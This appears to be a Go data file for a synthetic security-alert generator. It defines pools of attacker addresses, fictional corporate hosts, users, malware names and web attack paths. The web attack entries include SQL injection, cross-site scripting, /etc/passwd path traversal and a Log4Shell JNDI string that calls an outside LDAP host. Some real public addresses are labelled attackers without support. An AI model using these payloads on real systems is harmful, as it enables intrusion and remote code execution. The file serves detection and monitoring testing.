package alertgen

// Address and name pools. External addresses are drawn from the
// documentation ranges (RFC 5737, RFC 3849) and from a few public ranges
// spread over several countries so that GeoIP enrichment and maps have
// something to show; internal ones from RFC 1918 space.

var attackersV4 = []string{
	"192.0.2.17", "198.51.100.23", "203.0.113.45", "203.0.113.99",
	"45.33.32.156", "185.220.101.4", "91.240.118.172", "103.75.190.11",
	"141.98.10.63", "5.188.206.26", "61.177.172.140", "218.92.0.112",
	"179.43.175.9", "196.251.73.10", "80.94.95.81", "222.186.30.57",
}

var attackersV6 = []string{
	"2001:db8::bad:1", "2001:db8:4:2::17", "2a0b:7280:100::5", "2602:fe90:30::44",
}

type host struct {
	name, ip, ip6 string
	services      []service
}

type service struct {
	name string
	port int
}

var internalHosts = []host{
	{"web-01.corp.example", "10.0.1.10", "fd00:1::10", []service{{"nginx", 443}, {"nginx", 80}, {"sshd", 22}}},
	{"web-02.corp.example", "10.0.1.11", "fd00:1::11", []service{{"apache2", 443}, {"sshd", 22}}},
	{"db-01.corp.example", "10.0.2.20", "fd00:2::20", []service{{"postgresql", 5432}, {"sshd", 22}}},
	{"mail.corp.example", "10.0.3.25", "fd00:3::25", []service{{"postfix", 25}, {"dovecot", 993}}},
	{"dc-01.corp.example", "10.0.4.5", "fd00:4::5", []service{{"ldap", 389}, {"kerberos", 88}, {"smb", 445}}},
	{"vpn.corp.example", "10.0.0.2", "fd00::2", []service{{"openvpn", 1194}, {"sshd", 22}}},
	{"files.corp.example", "10.0.5.40", "fd00:5::40", []service{{"smb", 445}, {"nfs", 2049}}},
	{"ci.corp.example", "10.0.6.50", "fd00:6::50", []service{{"jenkins", 8080}, {"sshd", 22}}},
}

var workstations = []string{
	"ws-0142.corp.example", "ws-0177.corp.example", "ws-0213.corp.example",
	"lt-0031.corp.example", "lt-0088.corp.example", "lt-0102.corp.example",
}

var users = []string{
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
	"ivan", "judy", "mallory", "oscar", "peggy", "trent", "victor", "walter",
}

// guessedUsers are the names brute-force tools try first.
var guessedUsers = []string{"root", "admin", "test", "oracle", "ubuntu", "user", "postgres", "git", "pi", "support"}

var malwareNames = []struct {
	category, name, file string
}{
	{"Malware.Trojan", "Win.Trojan.Agent-1234567", "invoice_2026.pdf.exe"},
	{"Malware.Ransomware", "Win.Ransomware.LockBit-9951", "update.exe"},
	{"Malware.Cryptominer", "Unix.Coinminer.XMRig-7733", "kdevtmpfsi"},
	{"Malware.Backdoor", "Unix.Backdoor.Mirai-6612", ".x86"},
	{"Malware.Downloader", "Doc.Downloader.Emotet-8834", "Scan_0423.docm"},
	{"Malware.Spyware", "Andr.Spyware.Pegasus-1021", "libsys.so"},
}

var webAttacks = []struct {
	name, path, sourceCategory string
}{
	{"SQL injection attempt", "/products.php?id=1%27%20OR%20%271%27=%271", "Cyber.Application.SQLQuery"},
	{"Cross-site scripting attempt", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Cyber.Application.XSSPayload"},
	{"Path traversal attempt", "/download?file=../../../../etc/passwd", "Cyber.Web.URIPath"},
	{"Admin panel probe", "/wp-admin/setup-config.php", "Cyber.Web.URIPath"},
	{"Log4Shell exploitation attempt", "/?x=${jndi:ldap://203.0.113.45:1389/a}", "Cyber.Web.URL"},
}

var cameras = []struct {
	name, location, geo string
}{
	{"cam-lobby-01", "HQ building A, main lobby", "48.8566,2.3522"},
	{"cam-dock-02", "HQ building B, loading dock", "48.8571,2.3530"},
	{"cam-dc-03", "Data centre, cage 4 door", "48.8402,2.3876"},
	{"cam-park-04", "Car park level -1", "48.8560,2.3510"},
}
